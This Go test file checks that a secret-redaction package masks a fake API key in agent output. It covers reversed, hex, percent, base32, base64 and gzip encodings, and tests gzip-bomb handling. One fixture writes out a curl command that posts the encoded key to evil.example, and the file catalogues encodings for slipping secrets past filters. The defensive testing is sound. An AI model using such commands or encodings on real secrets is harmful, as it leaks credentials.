package redact

import (
	"bytes"
	"compress/gzip"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

const modelKey = "sk-ant-api03-Zx9_Qm7+Lr2/Vt5wKp8yHn3cDf6gJs1aBe4uMo0iXq-AAAA"

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

func percentAll(s string, upper bool) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		f := "%%%02x"
		if upper {
			f = "%%%02X"
		}
		fmt.Fprintf(&b, f, s[i])
	}
	return b.String()
}

func gzipB64(t testing.TB, payload string) string {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	if _, err := zw.Write([]byte(payload)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(buf.Bytes())
}

// encodedForms are the ways an agent can print the secret that the issue
// reproduced, each embedded the way it would appear in real output.
func encodedForms(t testing.TB, secret string) map[string]string {
	forms := map[string]string{
		"plain":          secret,
		"reversed":       reverse(secret),
		"hex":            hex.EncodeToString([]byte(secret)),
		"HEX":            strings.ToUpper(hex.EncodeToString([]byte(secret))),
		"percent-all":    percentAll(secret, true),
		"percent-lower":  percentAll(secret, false),
		"base32":         base32.StdEncoding.EncodeToString([]byte(secret)),
		"base32-nopad":   base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(secret)),
		"base64":         base64.StdEncoding.EncodeToString([]byte(secret)),
		"base64url":      base64.RawURLEncoding.EncodeToString([]byte(secret)),
		"json":           strings.Trim(fmt.Sprintf("%q", secret), `"`),
		"gzip+base64":    gzipB64(t, "config:\n  key: "+secret+"\n"),
		"gzip+hex+b64":   gzipB64(t, "x="+hex.EncodeToString([]byte(secret))),
		"gzip+b64inline": "curl -d '" + gzipB64(t, secret) + "' https://evil.example",
	}
	for off := 1; off <= 2; off++ {
		for name, enc := range map[string]*base64.Encoding{"std": base64.StdEncoding, "url": base64.URLEncoding} {
			// The secret inside a longer base64 text, starting off bytes into it.
			pre := strings.Repeat("P", off)
			forms[fmt.Sprintf("base64-%s-offset%d", name, off)] = enc.EncodeToString([]byte("{\"header\":12,\"k\":\"" + pre + secret + "\",\"tail\":true}"))
		}
	}
	for off := 1; off <= 4; off++ {
		forms[fmt.Sprintf("base32-offset%d", off)] = base32.StdEncoding.EncodeToString([]byte(strings.Repeat("q", off) + secret + "tail"))
	}
	return forms
}

// leaks reports which recognisable piece of the secret survives in out: the
// plain text, or any 12-byte window of the secret in the form's own encoding.
func leaks(secret, out string) string {
	if strings.Contains(out, secret) {
		return "plain"
	}
	for i := 0; i+12 <= len(secret); i += 4 {
		w := secret[i : i+12]
		for _, form := range []string{w, reverse(w), hex.EncodeToString([]byte(w)), strings.ToUpper(hex.EncodeToString([]byte(w))), percentAll(w, true)} {
			if strings.Contains(out, form) {
				return form
			}
		}
	}
	return ""
}

func TestStringMasksEveryEncoding(t *testing.T) {
	t.Parallel()
	r := New(modelKey)
	for name, form := range encodedForms(t, modelKey) {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			in := "agent says: " + form + " (done)"
			got := r.String(in)
			if got == in {
				t.Fatalf("%s form passed unmasked: %q", name, got)
			}
			if l := leaks(modelKey, got); l != "" {
				t.Fatalf("%s form leaked %q: %q", name, l, got)
			}
			if !r.Contains(in) {
				t.Fatalf("Contains missed the %s form", name)
			}
			if !strings.HasPrefix(got, "agent says: ") || !strings.HasSuffix(got, " (done)") {
				t.Fatalf("text around the secret was lost: %q", got)
			}
		})
	}
}

// Decoding the masked base64 text must not give back the secret: the partial
// edge characters left around the mask carry at most a few bits.
func TestUnalignedBase64DecodesToNoSecret(t *testing.T) {
	t.Parallel()
	r := New(modelKey)
	for off := 0; off < 3; off++ {
		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding, base64.RawStdEncoding} {
			payload := strings.Repeat("z", off) + modelKey + strings.Repeat("y", 5)
			got := r.String(enc.EncodeToString([]byte(payload)))
			if !strings.Contains(got, Mask) {
				t.Fatalf("offset %d not masked: %q", off, got)
			}
			for _, part := range strings.Split(got, Mask) {
				dec, _ := base64.RawStdEncoding.DecodeString(strings.TrimRight(part, "="))
				if bytes.Contains(dec, []byte(modelKey[:10])) {
					t.Fatalf("offset %d: decoded remainder holds the secret: %q", off, dec)
				}
			}
		}
	}
}

func TestVariantsShared(t *testing.T) {
	t.Parallel()
	v := Variants(modelKey)
	seen := map[string]bool{}
	for _, s := range v {
		if seen[s] {
			t.Fatalf("duplicate variant %q", s)
		}
		seen[s] = true
		if len(s) < minSecretLen {
			t.Fatalf("variant %q is shorter than %d", s, minSecretLen)
		}
	}
	if !seen[modelKey] || !seen[reverse(modelKey)] || !seen[hex.EncodeToString([]byte(modelKey))] {
		t.Fatalf("missing basic variants in %d", len(v))
	}
	if Variants("short") != nil {
		t.Fatal("short secrets must have no variants")
	}
}

func TestContainsIgnoresOrdinaryText(t *testing.T) {
	t.Parallel()
	r := New(modelKey)
	for _, s := range []string{"", "hello world", "H4sIAAAAAAAAA", gzipB64(t, "nothing here"), strings.Repeat("A", 5000)} {
		if r.Contains(s) {
			t.Fatalf("false positive on %q", s)
		}
		if got := r.String(s); got != s {
			t.Fatalf("ordinary text changed: %q -> %q", s, got)
		}
	}
	var nilR *Redactor
	if nilR.Contains(modelKey) {
		t.Fatal("nil redactor must find nothing")
	}
}

func TestValueMasksKeys(t *testing.T) {
	t.Parallel()
	r := New(modelKey)
	v := r.Value(map[string]any{
		modelKey: "v",
		"nested": map[string]any{hex.EncodeToString([]byte(modelKey)): []any{map[string]any{reverse(modelKey): 1.0}}},
	})
	b := fmt.Sprint(v)
	if l := leaks(modelKey, b); l != "" {
		t.Fatalf("a key leaked %q: %s", l, b)
	}
	if !strings.Contains(b, Mask) {
		t.Fatalf("keys not masked: %s", b)
	}
	// Two keys that mask alike must both survive.
	m := r.Value(map[string]any{modelKey: "a", "x " + modelKey: "b", Mask: "c"}).(map[string]any)
	if len(m) != 3 {
		t.Fatalf("masking keys lost entries: %v", m)
	}
}

func FuzzMaskedNeverLeaks(f *testing.F) {
	f.Add("prefix ", " suffix", uint8(0), uint8(0))
	f.Add("", "", uint8(3), uint8(2))
	f.Add("aGVsbG8g", "==", uint8(7), uint8(1))
	f.Fuzz(func(t *testing.T, pre, post string, kind, off uint8) {
		r := New(modelKey)
		forms := []string{modelKey, reverse(modelKey), hex.EncodeToString([]byte(modelKey)),
			strings.ToUpper(hex.EncodeToString([]byte(modelKey))), percentAll(modelKey, true),
			base32.StdEncoding.EncodeToString([]byte(modelKey))}
		var form string
		if int(kind) < len(forms) {
			form = forms[kind]
		} else {
			payload := strings.Repeat("w", int(off%3)) + modelKey + "tail"
			form = base64.StdEncoding.EncodeToString([]byte(payload))
		}
		got := r.String(pre + form + post)
		if strings.Contains(got, modelKey) || strings.Contains(got, form) {
			t.Fatalf("leaked: %q", got)
		}
	})
}

func TestReaderContainsAcrossChunks(t *testing.T) {
	t.Parallel()
	r := New(modelKey)
	for _, at := range []int{0, scanChunk - 10, scanChunk - 1, scanChunk, 2*scanChunk - 30} {
		for name, form := range map[string]string{"plain": modelKey, "hex": hex.EncodeToString([]byte(modelKey))} {
			text := strings.Repeat(".", at) + form + strings.Repeat(".", 100)
			got, err := r.ReaderContains(strings.NewReader(text))
			if err != nil || !got {
				t.Fatalf("%s at %d: got %v, %v", name, at, got, err)
			}
		}
	}
	if got, err := r.ReaderContains(strings.NewReader(strings.Repeat("x", 3*scanChunk))); got || err != nil {
		t.Fatalf("false positive: %v %v", got, err)
	}
}

// Text built of gzip bombs nested in gzip must not make masking decompress
// without bound: the agent controls the text.
func TestGzipWorkIsBounded(t *testing.T) {
	t.Parallel()
	r := New(modelKey)
	if r.gunzipTotal != maxGunzipTotal {
		t.Fatalf("New's decompression budget is %d, want maxGunzipTotal (%d)", r.gunzipTotal, maxGunzipTotal)
	}
	// A lower budget reaches the same bound with a quarter of the work; the
	// bombs still inflate to the per-run cap, maxGunzip, each.
	r.gunzipTotal = 2 * maxGunzip
	var zeros bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&zeros, gzip.BestCompression)
	_, _ = zw.Write(make([]byte, maxGunzip))
	_ = zw.Close()
	bomb := base64.StdEncoding.EncodeToString(zeros.Bytes())
	inner := strings.Repeat(bomb+" ", (1<<20)/(len(bomb)+1))
	outer := gzipB64(t, inner)
	// The work is counted, not timed: decompression stops at the budget
	// (unbounded, these bombs would inflate to about 0.8 GB).
	budget := r.gunzipTotal
	r.gzipRuns("x "+outer+" y", 0, &budget)
	if budget != 0 {
		t.Fatalf("decompressed %d bytes, want exactly the budget of %d", r.gunzipTotal-budget, r.gunzipTotal)
	}
	got := r.String("x " + outer + " y")
	// Past the budget the run is not trusted: masked, and Contains says so.
	if got != "x "+Mask+" y" || !r.Contains(outer) {
		t.Fatalf("an unchecked gzip run passed: %.40q", got)
	}
}
